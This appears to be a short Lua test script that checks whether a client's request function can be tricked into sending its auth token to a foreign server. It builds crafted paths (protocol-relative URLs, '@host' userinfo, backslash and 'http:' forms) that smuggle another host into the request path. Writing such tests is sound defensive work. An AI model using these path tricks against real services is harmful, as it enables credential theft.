--- A script sends the token to another server by the path of a request.
--: exit 0
--: says nothing left
local foreign = "%F"
local host = foreign:sub(8)
for _, path in ipairs { foreign .. "/x", "//" .. host .. "/x", "/\\" .. host, "@" .. host .. "/x", ":80@" .. host, "http:" .. host, "/" .. foreign } do
  pcall(cloud.request, cloud, "GET", path)
  pcall(cloud.request, cloud, "POST", path, { json = {} })
end
print "nothing left"
